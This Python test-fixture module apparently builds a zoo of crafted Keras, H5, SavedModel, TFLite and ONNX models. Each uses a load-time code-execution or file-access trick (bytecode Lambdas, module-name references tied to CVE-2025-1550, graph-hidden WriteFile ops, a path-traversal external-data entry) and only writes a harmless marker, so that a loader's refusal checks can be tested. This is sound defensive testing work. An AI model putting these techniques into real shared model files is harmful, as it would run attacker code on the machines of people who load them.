"""A malicious model zoo: crafted model folders that run code or touch files when loaded.

Every model, if anything in it runs, writes a marker file: the path in ZOO_MARKER for the
Python payloads (Keras), its folder's MARKER for the ones baked into a graph. Tests load each with
trust_model off (refused, no marker) and with it on (where the runtime can run it: the marker
appears, which proves the model is a real attack and not a decoy the checks merely dislike).
Each entry says which family it belongs to and the name the refusal must mention. The pinned
Keras (3.12.4) itself refuses the models that name a class or function of a module outside
Keras, even with trust (it imports only Keras's own modules named in a config, since the
CVE-2025-1550 fix): those are marked `keras_blocks`; Keras 3.6.0 ran every one of them.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

MARKER = 'MARKER'
PAYLOAD_MODULE = 'zoo_payload'
#: A module an attacker's config refers to by name. The zoo writes it beside the models (the
#: tests put that folder on sys.path); a real attack names a module already installed (Keras
#: 3.6 imports it; the pinned Keras refuses any module outside Keras, trust or not).
PAYLOAD_SOURCE = '''
"""Writes the marker file the test names in ZOO_MARKER, then passes its input on."""
import os

def run(x, *args, **kwargs):
    open(os.environ.get('ZOO_MARKER', os.devnull), 'w').write('ran')
    return x


class Evil:
    @classmethod
    def from_config(cls, config):
        return run(cls())
'''
DESCRIPTION = {'class_names': ['bg', 'x'], 'input': {'dtype': 'float32'},
               'output': {'type': 'logits'}}


@dataclass(frozen=True)
class Crafted:
    """One crafted model: how to build it, and what the refusal must name."""

    name: str
    family: str         # keras | h5 | saved_model | tflite | onnx
    build: Callable[[Path], None]
    names: str          # a regular expression the refusal message must match
    runs_when_trusted: bool = True
    keras_blocks: bool = False  # the pinned Keras refuses it itself, even with trust


def _describe(folder: Path, description: dict = DESCRIPTION) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / 'model.json').write_text(json.dumps(description))


def _tiny_keras(extra=None):
    """Input -> [extra] -> Conv2D: the smallest model a layer can hide in."""
    import keras

    inputs = keras.Input((16, 16, 3), name='image')
    hidden = extra(inputs) if extra is not None else inputs
    return keras.Model(inputs, keras.layers.Conv2D(2, 1, name='head')(hidden))


def _rewrite_keras_config(path: Path, edit: Callable[[dict], None]) -> None:
    """Rewrite config.json inside a .keras archive, as an attacker with a text editor would."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members['config.json'])
    edit(config)
    members['config.json'] = json.dumps(config).encode()
    with zipfile.ZipFile(path, 'w') as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def _rewrite_h5_config(path: Path, edit: Callable[[dict], None]) -> None:
    import h5py

    with h5py.File(path, 'r+') as handle:
        config = json.loads(handle.attrs['model_config'])
        edit(config)
        handle.attrs['model_config'] = json.dumps(config)


def _layer(config: dict, name: str) -> dict:
    return next(layer for layer in config['config']['layers'] if layer['name'] == name)


def _payload_function() -> dict:
    return {'module': PAYLOAD_MODULE, 'class_name': 'function', 'config': 'run',
            'registered_name': 'function'}


def _lambda_model(folder: Path, fmt: str):
    """A model with a harmless Lambda, saved; the tests' edits then point it at the payload."""
    import keras

    model = _tiny_keras(keras.layers.Lambda(lambda t: t * 1.0, output_shape=(16, 16, 3),
                                            name='innocent'))
    _describe(folder)
    path = folder / f'model.{fmt}'
    model.save(path)
    return path


def _bytecode_lambda_model(folder: Path, fmt: str) -> None:
    """A model whose Lambda holds Python bytecode that writes the marker, saved as `fmt`."""
    import keras

    model = _tiny_keras(keras.layers.Lambda(
        lambda t: (open(__import__('os').environ.get('ZOO_MARKER', os.devnull), 'w').write(
            'ran'), t)[1], output_shape=(16, 16, 3), name='bytecode'))
    _describe(folder)
    model.save(folder / f'model.{fmt}')


def keras_bytecode_lambda(folder: Path) -> None:
    """A Lambda holding Python bytecode (Keras marshals the function into config.json)."""
    _bytecode_lambda_model(folder, 'keras')


def keras_module_function(folder: Path) -> None:
    """A Lambda whose function is a module function named in config.json (CVE-2025-1550)."""
    path = _lambda_model(folder, 'keras')
    _rewrite_keras_config(path, lambda c: _layer(c, 'innocent')['config'].update(
        function=_payload_function()))


def keras_disguised_class(folder: Path) -> None:
    """A Lambda disguised: another class name, found again through registered_name."""
    path = _lambda_model(folder, 'keras')

    def disguise(config: dict) -> None:
        layer = _layer(config, 'innocent')
        layer.update(class_name='Conv2DFast', registered_name='Lambda',
                     module='keras.src.layers.core.lambda_layer')
        layer['config']['function'] = _payload_function()
    _rewrite_keras_config(path, disguise)


def keras_foreign_module_layer(folder: Path) -> None:
    """No Lambda at all: a layer whose class Keras imports from another module by name."""
    _describe(folder)
    path = folder / 'model.keras'
    _tiny_keras(__import__('keras').layers.Identity(name='loader')).save(path)

    def point(config: dict) -> None:
        _layer(config, 'loader').update(module=PAYLOAD_MODULE, class_name='Evil',
                                        registered_name=None)
    _rewrite_keras_config(path, point)


def keras_saved_model_layer(folder: Path) -> None:
    """No Lambda: a TFSMLayer (a public Keras layer) loads a SavedModel named in its config.

    That SavedModel's resource initializer writes the marker: loading it is enough.
    """
    import keras

    saved_model_resource_initializer(folder / 'inner_saved_model', folder / MARKER)
    _describe(folder)
    path = folder / 'model.keras'
    _tiny_keras(keras.layers.Identity(name='loader')).save(path)

    def swap(config: dict) -> None:
        layer = _layer(config, 'loader')
        layer['class_name'] = 'TFSMLayer'
        layer['config'].update(filepath=str(folder / 'inner_saved_model'),
                               call_endpoint='serving_default')
    _rewrite_keras_config(path, swap)


def h5_bytecode_lambda(folder: Path) -> None:
    """A legacy .h5 with a Lambda (its bytecode runs on load even in Keras's safe mode)."""
    _bytecode_lambda_model(folder, 'h5')


def h5_module_function(folder: Path) -> None:
    """A legacy .h5 whose Lambda names a module function instead of holding bytecode."""
    path = _lambda_model(folder, 'h5')
    _rewrite_h5_config(path, lambda c: _layer(c, 'innocent')['config'].update(
        function=_payload_function()))


def _save_module(module, folder: Path, signature) -> None:
    import tensorflow as tf

    _describe(folder)
    tf.saved_model.save(module, str(folder), signatures={'serving_default': signature})


def _saved_model_that(folder: Path, side_effect) -> None:
    """A SavedModel whose serving function runs `side_effect(marker)` before it convolves."""
    import tensorflow as tf

    marker = str(folder / MARKER)

    class Model(tf.Module):
        def __init__(self):
            self.kernel = tf.Variable(tf.ones((1, 1, 3, 2)))

        @tf.function(input_signature=[tf.TensorSpec((None, 16, 16, 3), tf.float32)])
        def serve(self, image):
            with tf.control_dependencies([side_effect(marker)]):
                return {'logits': tf.nn.conv2d(image, self.kernel, 1, 'SAME')}
    module = Model()
    _save_module(module, folder, module.serve)


def saved_model_dataset_reduce(folder: Path) -> None:
    """tf.io.write_file inside a tf.data reduce function (the library, not the graph)."""
    import tensorflow as tf

    def reduce_writing(marker: str):
        def step(state, _):
            with tf.control_dependencies([tf.io.write_file(marker, 'ran')]):
                return state + 1
        return tf.data.Dataset.range(1).reduce(tf.constant(0, tf.int64), step)
    _saved_model_that(folder, reduce_writing)


def saved_model_tfrecord_writer(folder: Path) -> None:
    """DatasetToTFRecord: a dataset op that writes a file (not on any old deny-list)."""
    import tensorflow as tf

    _saved_model_that(folder, lambda marker: tf.raw_ops.DatasetToTFRecord(
        input_dataset=tf.data.Dataset.from_tensors(tf.constant('ran'))._variant_tensor,
        filename=marker, compression_type=''))


def saved_model_resource_initializer(folder: Path, marker: Path | None = None) -> None:
    """A resource whose initializer writes a file: tf.saved_model.load runs it at once."""
    import tensorflow as tf

    marker = str(marker or folder / MARKER)

    class Resource(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name='')

        def _initialize(self):
            tf.io.write_file(marker, 'ran')
            tf.raw_ops.AssignVariableOp(resource=self.resource_handle,
                                        value=tf.constant(1.0))

    class Model(tf.Module):
        def __init__(self):
            self.resource = Resource()
            self.kernel = tf.Variable(tf.ones((1, 1, 3, 2)))

        @tf.function(input_signature=[tf.TensorSpec((None, 16, 16, 3), tf.float32)])
        def serve(self, image):
            scale = tf.raw_ops.ReadVariableOp(resource=self.resource.resource_handle,
                                              dtype=tf.float32)
            return {'logits': tf.nn.conv2d(image, self.kernel, 1, 'SAME') * scale}
    module = Model()
    _save_module(module, folder, module.serve)


def saved_model_while_body(folder: Path) -> None:
    """WriteFile in a while loop's body (a function reached only through a loop attribute)."""
    import tensorflow as tf

    def loop_writing(marker: str):
        def body(i):
            with tf.control_dependencies([tf.io.write_file(marker, 'ran')]):
                return i + 1
        return tf.while_loop(lambda i: i < 1, body, [tf.constant(0)])[0]
    _saved_model_that(folder, loop_writing)


def _flex_tflite(marker: str) -> bytes:
    """A LiteRT model that writes a file through the Flex delegate (a TensorFlow op)."""
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec((1, 16, 16, 3), tf.float32)])
    def serve(image):
        with tf.control_dependencies([tf.io.write_file(marker, 'ran')]):
            return tf.nn.conv2d(image, tf.ones((1, 1, 3, 2)), 1, 'SAME') + 0.0
    converter = tf.lite.TFLiteConverter.from_concrete_functions(
        [serve.get_concrete_function()], serve)
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS,
                                           tf.lite.OpsSet.SELECT_TF_OPS]
    return converter.convert()


def tflite_flex_write_file(folder: Path) -> None:
    """A .tflite with a Flex WriteFile op: run by LiteRT once TensorFlow is loaded."""
    _describe(folder)
    (folder / 'model.tflite').write_bytes(_flex_tflite(str(folder / MARKER)))


def _onnx_model(nodes, initializers=()):
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes, 'crafted', [helper.make_tensor_value_info('image', TensorProto.FLOAT,
                                                         [1, 3, 16, 16])],
        [helper.make_tensor_value_info('logits', TensorProto.FLOAT, [1, 2, 16, 16])],
        list(initializers))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid('', 17),
                                                   helper.make_opsetid('com.evil', 1)])


def onnx_custom_domain(folder: Path) -> None:
    """An ONNX node of a custom operator domain (a plugin library's op)."""
    import onnx
    from onnx import helper

    _describe(folder)
    onnx.save(_onnx_model([helper.make_node('Exec', ['image'], ['logits'], name='evil',
                                            domain='com.evil')]), str(folder / 'model.onnx'))


def onnx_custom_domain_in_subgraph(folder: Path) -> None:
    """The custom node hidden in an If branch (a subgraph attribute)."""
    import onnx
    from onnx import TensorProto, helper

    _describe(folder)
    branch = helper.make_graph(
        [helper.make_node('Exec', ['image'], ['inner'], name='hidden', domain='com.evil')],
        'branch', [], [helper.make_tensor_value_info('inner', TensorProto.FLOAT,
                                                     [1, 2, 16, 16])])
    cond = helper.make_tensor('cond', TensorProto.BOOL, [], [True])
    onnx.save(_onnx_model([helper.make_node('If', ['cond'], ['logits'], name='gate',
                                            then_branch=branch, else_branch=branch)],
                          [cond]), str(folder / 'model.onnx'))


def onnx_external_data_outside(folder: Path) -> None:
    """An initializer whose external data lies outside the model folder."""
    import onnx
    from onnx import TensorProto, helper

    _describe(folder)
    weight = helper.make_tensor('weight', TensorProto.FLOAT, [2, 3, 1, 1], [0.0] * 6)
    weight.ClearField('float_data')
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = 'location', '../../etc_passwd_stand_in.bin'
    onnx.save(_onnx_model([helper.make_node('Conv', ['image', 'weight'], ['logits'],
                                            name='conv')], [weight]),
              str(folder / 'model.onnx'))


ZOO = (
    Crafted('keras_bytecode_lambda', 'keras', keras_bytecode_lambda, "'bytecode'.*Lambda"),
    Crafted('keras_module_function', 'keras', keras_module_function,
            "'innocent'.*Lambda", keras_blocks=True),
    Crafted('keras_disguised_class', 'keras', keras_disguised_class,
            "'innocent'.*Conv2DFast", keras_blocks=True),
    Crafted('keras_foreign_module_layer', 'keras', keras_foreign_module_layer,
            "'loader'.*'Evil'", keras_blocks=True),
    Crafted('keras_saved_model_layer', 'keras', keras_saved_model_layer,
            "'loader'.*TFSMLayer"),
    Crafted('h5_bytecode_lambda', 'h5', h5_bytecode_lambda, "'bytecode'.*Lambda"),
    Crafted('h5_module_function', 'h5', h5_module_function, "'innocent'.*Lambda",
            keras_blocks=True),
    Crafted('saved_model_dataset_reduce', 'saved_model', saved_model_dataset_reduce,
            "'WriteFile'.*'ReduceDataset'|'ReduceDataset'.*'WriteFile'"),
    Crafted('saved_model_tfrecord_writer', 'saved_model', saved_model_tfrecord_writer,
            "'DatasetToTFRecord'"),
    Crafted('saved_model_resource_initializer', 'saved_model',
            saved_model_resource_initializer, "'WriteFile'.*initialize"),
    Crafted('saved_model_while_body', 'saved_model', saved_model_while_body,
            "'WriteFile'.*body"),
    Crafted('tflite_flex_write_file', 'tflite', tflite_flex_write_file, 'FlexWriteFile'),
    Crafted('onnx_custom_domain', 'onnx', onnx_custom_domain, "'evil'.*com.evil",
            runs_when_trusted=False),  # no runtime has the op: trust only lifts our refusal
    Crafted('onnx_custom_domain_in_subgraph', 'onnx', onnx_custom_domain_in_subgraph,
            "'hidden'.*com.evil", runs_when_trusted=False),
    Crafted('onnx_external_data_outside', 'onnx', onnx_external_data_outside,
            "'weight'.*outside the model folder", runs_when_trusted=False),
)


def build_zoo(root: Path) -> dict[str, Path]:
    """Build every crafted model under `root` (one folder each) and the payload module."""
    (root / f'{PAYLOAD_MODULE}.py').write_text(PAYLOAD_SOURCE)
    folders = {}
    for crafted in ZOO:
        folder = root / crafted.name
        crafted.build(folder)
        folders[crafted.name] = folder
    return folders


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def copy_output(source: Path, target: Path) -> dict:
    """A copy of an optimizer output folder and its manifest, to tamper with."""
    shutil.copytree(source, target)
    return json.loads((target / 'manifest.json').read_text())
